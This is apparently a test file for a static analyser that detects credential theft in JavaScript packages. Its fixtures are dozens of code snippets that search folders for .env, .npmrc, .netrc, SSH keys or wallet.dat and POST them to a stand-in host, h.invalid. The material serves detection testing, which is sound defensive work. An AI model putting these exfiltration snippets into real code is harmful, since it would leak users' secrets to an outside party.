import t from 'tap'
import { inspectExample } from '../../../helpers/inspect-example.ts'

const head =
  "const fs = require('fs'), path = require('path'); const send = d => fetch('https://h.invalid/', { method: 'POST', body: d });\n"

/** Whether a file of credentials is known to be sent by code that lists a folder. */
function sends(code: string): boolean {
  const files = { 'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}', 'i.js': head + code }
  return inspectExample({ files }).flows.some(
    ({ source, sink }) => source.kind === 'credential-file' && sink.kind === 'network',
  )
}

/** Ways to pick files by their names, none of which writes a path of credentials down. */
const picking: readonly string[] = [
  "for (const e of fs.readdirSync('/x', { withFileTypes: true })) { const p = path.join('/x', e.name); if (/^\\.env(\\..+)?$/.test(e.name)) send(fs.readFileSync(p)) }",
  "for (const n of fs.readdirSync('/x')) { const p = path.join('/x', n); if (n === '.npmrc') send(fs.readFileSync(p)) }",
  "for (const n of fs.readdirSync('/x')) { if (n !== '.npmrc') continue; send(fs.readFileSync(path.join('/x', n))) }",
  "for (const n of fs.readdirSync('/x')) { const p = path.join('/x', n); if (!/^id_(rsa|ed25519)$/.test(n)) continue; send(fs.readFileSync(p)) }",
  "for (const n of fs.readdirSync('/x')) { const p = path.join('/x', n); if (!n.startsWith('.env')) continue; send(fs.readFileSync(p)) }",
  "function walk(d) { for (const n of fs.readdirSync(d)) { const p = path.join(d, n); if (fs.statSync(p).isDirectory()) walk(p); else if (path.basename(p) === '.npmrc') send(fs.readFileSync(p)) } }; walk('/x')",
  "function walk(d) { for (const n of fs.readdirSync(d)) { const p = path.join(d, n); if (fs.statSync(p).isDirectory()) walk(p); else if (p.endsWith('.env')) send(fs.readFileSync(p)) } }; walk('/x')",
  "const T = ['.env', 'id_rsa']; for (const n of fs.readdirSync('/x')) { const p = path.join('/x', n); if (T.some(t => n.includes(t))) send(fs.readFileSync(p)) }",
  "const T = ['.env', 'id_rsa']; for (const n of fs.readdirSync('/x')) { const p = path.join('/x', n); if (T.some(t => p.endsWith(t))) send(fs.readFileSync(p)) }",
  "const T = ['.env', 'id_rsa']; for (const n of fs.readdirSync('/x')) { const p = path.join('/x', n); if (T.includes(n)) send(fs.readFileSync(p)) }",
  "const T = [/^\\.env/, /id_rsa/]; for (const n of fs.readdirSync('/x')) { const p = path.join('/x', n); if (T.some(t => t.test(n))) send(fs.readFileSync(p)) }",
  "const T = new Set(['.env', 'id_rsa']); for (const n of fs.readdirSync('/x')) { const p = path.join('/x', n); if (!T.has(n)) continue; send(fs.readFileSync(p)) }",
  "for (const n of fs.readdirSync('/x')) { const p = path.join('/x', n); if (n.includes('wallet.dat')) send(fs.readFileSync(p)) }",
  "fs.readdirSync('/x').filter(n => n.startsWith('.env')).forEach(n => send(fs.readFileSync(path.join('/x', n))))",
  "fs.readdirSync('/x').filter(n => n.endsWith('.env')).map(n => path.join('/x', n)).forEach(n => send(fs.readFileSync(n)))",
  "fs.readdirSync('/x').map(n => path.join('/x', n)).filter(n => path.basename(n) === '.npmrc').forEach(n => send(fs.readFileSync(n)))",
  "fs.readdirSync('/x').map(n => path.join('/x', n)).filter(n => /\\.npmrc$/.test(n)).forEach(n => send(fs.readFileSync(n)))",
  "const f = fs.readdirSync('/x').find(n => n === '.npmrc'); if (f) send(fs.readFileSync(path.join('/x', f)))",
  "for (const n of fs.readdirSync('/x')) { n === '.npmrc' && send(fs.readFileSync(path.join('/x', n))) }",
  "for (const n of fs.readdirSync('/x')) { switch (n) { case '.npmrc': case '.netrc': send(fs.readFileSync(path.join('/x', n))) } }",
  "async function* g(d) { for (const e of await fs.promises.readdir(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) yield* g(p); else if (/^\\.env(\\..+)?$/.test(e.name)) yield p } }; (async () => { for await (const f of g('/x')) send(await fs.promises.readFile(f)) })()",
  "const out = []; const walk = d => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) { walk(p); continue } if (!/^\\.env(\\.|$)/.test(e.name)) continue; out.push(p) } }; walk('/x'); for (const f of out) send(fs.readFileSync(f))",
  "const wanted = f => /(^|\\/)\\.npmrc$/.test(f); for (const n of fs.readdirSync('/x')) { const p = path.join('/x', n); if (wanted(p)) send(fs.readFileSync(p)) }",
  "const isIt = f => f.endsWith('.npmrc'); fs.readdirSync('/x').filter(isIt).forEach(n => send(fs.readFileSync(path.join('/x', n))))",
  "const glob = require('fast-glob'); for (const f of glob.sync('**/.env*', { cwd: '/x' })) send(fs.readFileSync(path.join('/x', f)))",
]

/** Ways to leave such files out, or to pick others. */
const leavingOut: readonly string[] = [
  "for (const n of fs.readdirSync('/x')) { const p = path.join('/x', n); if (n === '.npmrc') continue; send(fs.readFileSync(p)) }",
  "for (const n of fs.readdirSync('/x')) { const p = path.join('/x', n); if (/^\\.env/.test(n)) continue; send(fs.readFileSync(p)) }",
  "for (const n of fs.readdirSync('/x')) { const p = path.join('/x', n); if (!n.endsWith('.md')) continue; send(fs.readFileSync(p)) }",
  "for (const n of fs.readdirSync('/x')) { const p = path.join('/x', n); if (n.endsWith('.env')) { console.log('skip'); continue } send(fs.readFileSync(p)) }",
  "fs.readdirSync('/x').filter(n => !n.startsWith('.env')).forEach(n => send(fs.readFileSync(path.join('/x', n))))",
  "fs.readdirSync('/x').filter(n => n !== '.npmrc').forEach(n => send(fs.readFileSync(path.join('/x', n))))",
]

t.test('what is picked from a folder by its name is known by that name', async t => {
  for (const code of picking) t.ok(sends(code), code)
})

t.test('what is left out of a folder by its name is not sent', async t => {
  for (const code of leavingOut) t.notOk(sends(code), code)
})

t.test('a predicate that asks itself ends', async t => {
  const code =
    "const isIt = n => isIt(n); for (const n of fs.readdirSync('/x')) if (isIt(n)) send(fs.readFileSync(n))"
  t.notOk(sends(code))
})
